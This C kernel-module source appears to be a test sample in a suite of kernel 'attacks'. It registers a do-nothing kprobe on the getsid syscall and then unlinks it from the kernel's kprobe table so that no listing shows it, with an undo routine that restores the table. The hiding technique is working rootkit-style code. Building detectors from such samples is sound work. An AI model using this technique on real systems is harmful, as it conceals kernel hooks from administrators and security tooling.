// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/* A kprobe that is taken out of the table of kprobes, so that nobody lists it. */
#include "attack.h"

#include <linux/delay.h>
#include <linux/hash.h>

static struct kprobe probe = {.symbol_name = "__x64_sys_getsid"};
static struct hlist_node *node, *next, **back;

static int watch(struct kprobe *kp, struct pt_regs *registers)
{
	return 0;
}

static int attack(void)
{
	struct hlist_head *table = (struct hlist_head *)symbol("kprobe_table");
	struct kprobe *listed;
	int error;

	if (!table)
		return -ENOENT;
	probe.pre_handler = watch;
	/* Behind the place of ftrace, so that it becomes a jump to a copy of what was there. */
	probe.offset = 4 + 5;
	error = register_kprobe(&probe);
	if (error == -EILSEQ) {
		/* No instruction begins there: this kernel has no ENDBR at its functions' start. */
		probe.offset = 5;
		probe.addr = NULL;
		error = register_kprobe(&probe);
	}
	if (error)
		return error;
	/* Until it is such a jump it is an int3, whose handler looks into the table. */
	msleep(1000);
	/* What is listed may be a kprobe that the kernel made to stand for ours (KPROBE_HASH_BITS).
	 */
	hlist_for_each_entry(listed, &table[hash_ptr(probe.addr, 6)], hlist)
	{
		if (listed->addr == probe.addr)
			node = &listed->hlist;
	}
	if (!node) {
		unregister_kprobe(&probe);
		return -ENXIO;
	}
	next = node->next;
	back = node->pprev;
	*back = next;
	if (next)
		next->pprev = back;
	return 0;
}

static void undo(void)
{
	*back = node;
	if (next)
		next->pprev = &node->next;
	unregister_kprobe(&probe);
}

ATTACK("a kprobe that is in no table");
